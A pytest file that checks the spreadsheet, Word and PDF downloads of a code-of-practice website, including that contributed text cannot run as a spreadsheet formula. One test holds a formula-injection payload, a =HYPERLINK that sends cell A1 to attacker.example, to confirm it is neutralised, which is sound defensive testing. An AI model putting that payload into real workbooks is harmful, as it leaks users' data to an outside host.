"""Every download, opened with the library a person's program would use.

The workbooks with openpyxl (.xlsx) and odfdo (.ods): the answer drop-down
that refuses other values, the provenance, the version, the print set-up, and
no cell that a spreadsheet would run as a formula. The Word documents with
python-docx: real headings, tick boxes, the version. Every PDF with pypdf:
tagged (a structure tree), an outline from its headings, the language and a
real title. Then how the sizes reach the pages: the manifest `cop downloads`
writes, read by the build, checked by the post-build step.
"""

from __future__ import annotations

import json
import re
import shutil
from pathlib import Path

import pytest
from docx import Document
from odfdo import Document as OpenDocument
from openpyxl import load_workbook
from pypdf import PdfReader

from code_of_practice.model.checklists import ANSWERS, all_checklists
from code_of_practice.model.downloads import (CHECKLIST_FORMATS, CODE_FORMATS, all_downloads,
                                              read_manifest)
from code_of_practice.model.project import load_project
from code_of_practice.model.provenance import TITLE, provenance_line
from code_of_practice.outputs.cells import FORMULA_START, neutralise, plain_text
from code_of_practice.outputs.download_text import ChecklistDoc, Item, Section
from code_of_practice.outputs.downloads import DownloadError, copy_downloads
from code_of_practice.outputs.workbooks import write_ods, write_xlsx
from code_of_practice.render.checklists import download_links
from code_of_practice.testing import ROOT

PROJECT = load_project(ROOT)
CODE, EDITION = PROJECT.code, PROJECT.edition
CHECKLISTS = all_checklists(CODE)
VERSION_WORDS = f"version {EDITION['version']} ({EDITION['status']}"

pytestmark = pytest.mark.browser  # `cop downloads` prints the PDFs with Chromium


@pytest.fixture(scope="module")
def downloads(published) -> Path:
    return published["downloads"]


def ids_of(chosen) -> list[str]:
    return [c.id for c in chosen.items(CODE)]


def starts_formula(value) -> bool:
    return isinstance(value, str) and value.startswith(FORMULA_START)


# -- the workbooks ------------------------------------------------------------------------

@pytest.mark.parametrize("chosen", CHECKLISTS, ids=lambda c: c.slug)
def test_xlsx_has_a_drop_down_provenance_and_no_formula(downloads, chosen):
    book = load_workbook(downloads / f"{chosen.slug}.xlsx")
    sheet = book["Checklist"]
    values = [[c.value for c in row] for row in sheet.iter_rows()]
    flat = [v for row in values for v in row if v is not None]

    assert provenance_line(EDITION) in flat
    assert any(isinstance(v, str) and v.startswith(f"{chosen.title}: version "
                                                   f"{EDITION['version']}") for v in flat)
    header = next(i for i, row in enumerate(values) if row[0] == "ID")
    assert values[header][:7] == ["ID", "Principle", "Question", "What good looks like",
                                  "Answer", "Notes", "Clause on the site"]
    rows = values[header + 1:]
    assert [r[0] for r in rows] == ids_of(chosen)
    # Each item asks this checklist's question (a partner's, in "Questions to ask your prime").
    assert [r[2] for r in rows] == [chosen.question(c) for c in chosen.items(CODE)]
    first = chosen.items(CODE)[0]
    assert rows[0][3].splitlines() == [f"\u2022 {e}" for e in first.evidence]
    link = sheet.cell(row=header + 2, column=7).hyperlink
    assert link.target.endswith(f"#clause-{first.id}")
    for label in ("Organisation", "Contract", "Date", "Completed by"):
        assert label in flat

    # The answer column takes the four answers and nothing else.
    rules = sheet.data_validations.dataValidation
    assert len(rules) == 1
    rule = rules[0]
    assert rule.type == "list" and rule.showErrorMessage and rule.errorStyle == "stop"
    assert rule.formula1 == '"' + ",".join(ANSWERS) + '"'
    first_row, last_row = header + 2, header + 1 + len(rows)
    assert str(rule.sqref) == f"E{first_row}:E{last_row}"

    # No cell is a formula, or text a spreadsheet would run as one.
    for row in sheet.iter_rows():
        for cell in row:
            assert cell.data_type != "f", cell.coordinate
            assert not starts_formula(cell.value), (cell.coordinate, cell.value)

    # On screen and on paper: frozen headings, A4 landscape one page wide, titles repeat.
    assert sheet.freeze_panes == f"A{first_row}"
    assert str(sheet.page_setup.paperSize) == sheet.PAPERSIZE_A4
    assert sheet.page_setup.orientation == "landscape"
    assert sheet.page_setup.fitToWidth == 1 and sheet.sheet_properties.pageSetUpPr.fitToPage
    assert sheet.print_title_rows == f"${header + 1}:${header + 1}"
    assert sheet.cell(row=first_row, column=3).alignment.wrap_text
    assert book.properties.version == EDITION["version"]
    assert VERSION_WORDS in book.properties.title


def ods_text(element) -> str:
    return "\n".join(str(p).rstrip("\n") for p in element.get_elements("descendant::text:p"))


@pytest.mark.parametrize("chosen", CHECKLISTS, ids=lambda c: c.slug)
def test_ods_has_a_drop_down_provenance_and_no_formula(downloads, chosen):
    book = OpenDocument(str(downloads / f"{chosen.slug}.ods"))
    [check] = book.body.get_elements("descendant::table:content-validation")
    condition = check.get_attribute("table:condition")
    assert condition == ("of:cell-content-is-in-list("
                         + ";".join(f'"{a}"' for a in ANSWERS) + ")")
    [error] = check.get_elements("table:error-message")
    assert error.get_attribute("table:message-type") == "stop"
    assert error.get_attribute("table:display") in (True, "true")

    [sheet] = book.body.get_tables()
    rows = sheet.get_elements("descendant::table:table-row")
    cells = [row.get_elements("table:table-cell") for row in rows]
    texts = [[ods_text(c) for c in row] for row in cells]
    assert any(provenance_line(EDITION) in t for row in texts for t in row)
    header = next(i for i, row in enumerate(texts) if row and row[0] == "ID")
    items = texts[header + 1:]
    assert [r[0] for r in items] == ids_of(chosen)
    # The drop-down is on every answer cell, and only there.
    checked = [(r, n) for r, row in enumerate(cells) for n, c in enumerate(row)
               if c.get_attribute("table:content-validation-name")]
    assert checked == [(header + 1 + n, 4) for n in range(len(items))]
    # The heading row repeats on every printed page.
    assert sheet.get_elements("table:table-header-rows")

    for row in cells:
        for cell in row:
            assert not cell.get_attribute("table:formula"), "a cell holds a formula"
            assert not starts_formula(ods_text(cell)), ods_text(cell)
    assert VERSION_WORDS in book.meta.get_title()
    assert book.meta.get_user_defined_metadata()["Version"] == EDITION["version"]


def test_a_question_that_looks_like_a_formula_stays_text(tmp_path):
    """Contributed text that starts like a formula is written as text in every workbook."""
    nasty = '=HYPERLINK("https://attacker.example/?"&A1,"Click")?'
    item = Item("9.9", "Nasty", "@SUM(1)", nasty, ("+1 evidence", "-2 evidence"),
                "https://example.org/code/")
    doc = ChecklistDoc("Checklist for testers", EDITION, "-version line", "provenance",
                       ("Organisation",), ANSWERS, "How to. Choose.", (Section("=9", (item,)),))
    write_xlsx(tmp_path / "t.xlsx", doc)
    sheet = load_workbook(tmp_path / "t.xlsx")["Checklist"]
    values = [c.value for row in sheet.iter_rows() for c in row if c.value is not None]
    assert f"'{nasty}" in values and "'@SUM(1)" in values and "'-version line" in values
    assert all(not starts_formula(v) for v in values)
    assert all(c.data_type != "f" for row in sheet.iter_rows() for c in row)

    write_ods(tmp_path / "t.ods", doc)
    book = OpenDocument(str(tmp_path / "t.ods"))
    words = [str(p).rstrip("\n") for p in book.body.get_elements("descendant::text:p")]
    assert f"'{nasty}" in words and all(not starts_formula(w) for w in words)


def test_neutralise_and_plain_text():
    assert [neutralise(v) for v in ("=1+1", "+44", "-x", "@a", "\t=1", "\r=1", "a=b", "")] == \
        ["'=1+1", "'+44", "'-x", "'@a", "'\t=1", "'\r=1", "a=b", ""]
    assert plain_text("See [the glossary](../g.md) and **this** <b>x</b>") == \
        "See the glossary and this <b>x</b>"


# -- the Word documents -------------------------------------------------------------------

def headings(document) -> list[tuple[str, str]]:
    return [(p.style.name, p.text) for p in document.paragraphs
            if p.style.name.startswith(("Heading", "Title"))]


@pytest.mark.parametrize("chosen", CHECKLISTS, ids=lambda c: c.slug)
def test_checklist_docx_has_real_headings_and_tick_boxes(downloads, chosen):
    document = Document(str(downloads / f"{chosen.slug}.docx"))
    found = headings(document)
    assert found[0] == ("Heading 1", f"{chosen.title}: version {EDITION['version']}")
    sections = chosen.sections(CODE)
    assert [t for s, t in found if s == "Heading 2"] == \
        [f"{p.number}. {p.title}" for p, _ in sections]
    items = [t for s, t in found if s == "Heading 3"]
    assert [t.split(" ", 1)[0] for t in items] == ids_of(chosen)
    assert items == [f"{c.id} {chosen.question(c)}" for c in chosen.items(CODE)]
    body = "\n".join(p.text for p in document.paragraphs)
    if chosen.intro:
        assert chosen.intro in body
    assert body.count("\u2610 Yes") == len(items)
    assert provenance_line(EDITION) in body
    first = chosen.items(CODE)[0]
    assert first.evidence[0] in body
    assert document.core_properties.version == EDITION["version"]
    assert VERSION_WORDS in document.core_properties.title
    assert document.core_properties.language == "en-GB"
    footer = document.sections[0].footer._element.xml
    assert "PAGE" in footer and "NUMPAGES" in footer


def test_code_docx_is_the_whole_code(downloads):
    document = Document(str(downloads / "code-of-practice.docx"))
    found = headings(document)
    assert found[0] == ("Title", TITLE)
    level1 = [t for s, t in found if s == "Heading 1"]
    assert level1 == (["Contents", "How to use this code"]
                      + [f"Principle {p.number}. {p.title}" for p in CODE.principles]
                      + ["Glossary"])
    assert [t.split(" ", 1)[0] for s, t in found if s == "Heading 2"] == \
        [c.id for c in CODE.active_clauses]
    body = "\n".join(p.text for p in document.paragraphs)
    assert f"V{VERSION_WORDS[1:]}" in body
    for clause in CODE.active_clauses:
        assert plain_text(clause.text).split("\n")[0] in body, clause.id
        assert clause.evidence[-1] in body, clause.id
        if clause.ask_prime:
            assert f"Question to ask your prime: {clause.ask_prime}" in body, clause.id
    for term in PROJECT.glossary:
        assert f"{term}: " in body
    assert document.core_properties.version == EDITION["version"]


# -- the PDFs -----------------------------------------------------------------------------

def outline_titles(items) -> list:
    out = []
    for item in items:
        if isinstance(item, list):
            out.append(outline_titles(item))
        else:
            out.append(item.title)
    return out


def flat(titles) -> list[str]:
    return [t for item in titles for t in (flat(item) if isinstance(item, list) else [item])]


PDFS = ["code-of-practice.pdf"] + [f"{c.slug}.pdf" for c in CHECKLISTS]


@pytest.mark.parametrize("name", PDFS)
def test_every_pdf_is_tagged_with_outline_language_and_title(downloads, name):
    reader = PdfReader(downloads / name)
    catalog = reader.trailer["/Root"]
    assert "/StructTreeRoot" in catalog, f"{name} is not tagged"
    assert catalog["/MarkInfo"]["/Marked"], f"{name} is not marked as tagged"
    assert catalog["/Lang"] == "en-GB"
    title = reader.metadata.title
    assert VERSION_WORDS in title and TITLE in title, title
    headings = flat(outline_titles(reader.outline))
    if name == "code-of-practice.pdf":
        for p in CODE.principles:
            assert f"Principle {p.number}. {p.title}" in headings
        assert "Glossary" in headings and "How to use this code" in headings
        assert f"{CODE.active_clauses[0].id} {CODE.active_clauses[0].title}" in headings
    else:
        chosen = next(c for c in CHECKLISTS if f"{c.slug}.pdf" == name)
        assert headings[0] == f"{chosen.title}: version {EDITION['version']}"
        for p, _ in chosen.sections(CODE):
            assert f"{p.number}. {p.title}" in headings


def pdf_page_texts(path: Path) -> list[str]:
    """The text of each page, whitespace squashed: poppler's pdftotext, which
    reads a long PDF in a second where pypdf's text extraction takes minutes."""
    import subprocess

    out = subprocess.run(["pdftotext", "-enc", "UTF-8", str(path), "-"], check=True,
                         capture_output=True, text=True, timeout=120).stdout
    pages = out.split("\f")
    if pages and not pages[-1].strip():
        pages = pages[:-1]  # pdftotext ends each page with a form feed
    return [" ".join(page.split()) for page in pages]


def test_code_pdf_has_cover_contents_clauses_and_glossary(downloads):
    path = downloads / "code-of-practice.pdf"
    texts = pdf_page_texts(path)
    assert len(texts) == len(PdfReader(path).pages)
    # The contents give the page each part starts on, and it does start there.
    contents = next(t for t in texts if t.startswith("Contents"))
    for entry in ["How to use this code"] + [f"Principle {p.number}. {p.title}"
                                             for p in CODE.principles] + ["Glossary"]:
        match = re.search(re.escape(entry) + r" (\d+)", contents)
        assert match, f"{entry!r} has no page number in the contents"
        assert texts[int(match[1]) - 1].startswith(entry), f"{entry!r} is not on page {match[1]}"
    cover = texts[0]
    assert TITLE in cover and f"V{VERSION_WORDS[1:]}" in cover
    assert "not their text" in cover  # the provenance statement
    words = " ".join(texts)
    assert "Contents" in words and "Page 1 of" in words
    for clause in CODE.active_clauses:
        assert clause.title in words, clause.id
    for term in PROJECT.glossary:
        assert term in words


# -- the sizes on the pages, from the manifest --------------------------------------------

def test_the_manifest_lists_every_file_and_the_pages_show_their_sizes(published):
    manifest = json.loads((published["downloads"] / "manifest.json").read_text("utf-8"))
    assert set(manifest["files"]) == {d.name for d in all_downloads(
        CODE, PROJECT.history.consultations)}
    assert manifest["base_url"] == published["base_url"]
    for name, entry in manifest["files"].items():
        served = published["site"] / "downloads" / name
        assert served.stat().st_size == entry["size"], name
    index = (published["site"] / "code" / "index.html").read_text("utf-8")
    assert f"Download version {EDITION['version']} of the whole code" in index
    for fmt in CODE_FORMATS:
        assert f'data-download="code-of-practice.{fmt.ext}">({fmt.kind}, ' in index
    assert f"copied {len(manifest['files'])} files" in published["post_build"]


def test_without_a_manifest_the_links_name_the_format_alone():
    links = download_links(CODE, "partner", manifest=None)
    assert [(l["file"], l["kind"], l["size"]) for l in links] == \
        [(f"partners.{f.ext}", f.kind, None) for f in CHECKLIST_FORMATS]
    sized = download_links(CODE, "partner", manifest={"files": {"partners.pdf": {"size": 2048}}})
    assert sized[0]["size"] == "2 KB" and sized[1]["size"] is None


def test_a_manifest_from_other_sources_is_ignored_and_refused(published, tmp_path):
    root = published["root"]
    copy = tmp_path / "project"
    shutil.copytree(root, copy, ignore=shutil.ignore_patterns("site"))
    assert read_manifest(copy) is not None
    clause_page = sorted((copy / "docs" / "code").glob("1-*.md"))[0]
    clause_page.write_text(clause_page.read_text("utf-8") + "\n", encoding="utf-8")
    assert read_manifest(copy) is None  # the pages then name formats without sizes
    with pytest.raises(DownloadError, match="made from other sources"):
        copy_downloads(load_project(copy), published["site"], base_url=published["base_url"])


def test_post_build_refuses_downloads_for_another_address(published):
    with pytest.raises(DownloadError, match="cop downloads --base-url https://elsewhere"):
        copy_downloads(load_project(published["root"]), published["site"],
                       base_url="https://elsewhere.example/")


def test_post_build_refuses_a_site_built_before_the_downloads(published, tmp_path):
    site = tmp_path / "site"
    shutil.copytree(published["site"], site)
    page = site / "checklists" / "partners" / "index.html"
    html = page.read_text("utf-8")
    page.write_text(html.replace('data-download="partners.xlsx">(XLSX, ',
                                 'data-download="partners.xlsx">(XLSX, 1') , encoding="utf-8")
    with pytest.raises(DownloadError, match="built before the downloads were made"):
        copy_downloads(load_project(published["root"]), site, base_url=published["base_url"])


def test_post_build_without_downloads_says_what_to_run(tmp_path, published):
    project = load_project(published["root"])
    with pytest.raises(DownloadError, match="cop downloads"):
        copy_downloads(project, published["site"], base_url=published["base_url"],
                       folder=tmp_path / "none")
